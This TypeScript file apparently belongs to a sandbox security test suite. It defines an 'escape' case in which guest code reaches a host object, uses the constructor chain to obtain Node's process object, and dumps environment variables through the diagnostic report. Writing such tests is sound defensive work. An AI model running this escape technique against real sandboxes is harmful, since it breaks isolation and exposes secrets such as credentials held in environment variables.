import { attack } from '../attack.ts';

/** The diagnostic report lists the environment, and is written where the guest says. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		if (!process) return;
		try { process.report.excludeEnv = false; return JSON.stringify(process.report.getReport().environmentVariables); } catch (error) { return error.code; }
	`,
});
